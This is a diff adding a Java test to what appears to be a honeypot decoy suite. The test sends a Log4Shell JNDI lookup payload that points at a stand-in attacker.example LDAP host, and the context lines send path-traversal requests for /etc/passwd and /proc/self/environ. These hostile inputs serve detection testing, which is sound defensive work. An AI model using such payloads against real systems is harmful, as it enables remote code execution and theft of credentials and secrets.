@@ -60,6 +60,17 @@ class ExecutionDecoysCurlTest {
   }
 
   @Test
+  void everyHttpDecoyAlertsOnALog4ShellLookupNotOnlyTheLog4ShellOne() throws Exception {
+    for (String decoy : List.of("jenkins", "spring-actuator", "file-download", "struts2", "log4shell")) {
+      curl("-s", "-o", "/dev/null", "-H", "X-Api-Version: ${jndi:ldap://" + decoy + ".attacker.example:1389/a}", url(decoy, "/"));
+      Alert a = alerts.await(x -> x.action().equals("http.log4shell") && x.decoyName().equals(decoy));
+      assertThat(a.fields()).containsEntry("callback_host", decoy + ".attacker.example:1389");
+    }
+    // alerts are raised before the answer is written, so every one is in by now: the log4shell decoy raised one, not two
+    assertThat(alerts.alerts()).filteredOn(x -> x.action().equals("http.log4shell") && x.decoyName().equals("log4shell")).hasSize(1);
+  }
+
+  @Test
   void traversalThroughCurlServesTheFakePasswd() throws Exception {
     assertThat(curl("-s", "--path-as-is", url("file-download", "/static/../../../../etc/passwd"))).startsWith("root:x:0:0:");
     assertThat(curl("-s", url("file-download", "/download?file=..%252f..%252f..%252f..%252fproc%252fself%252fenviron")))
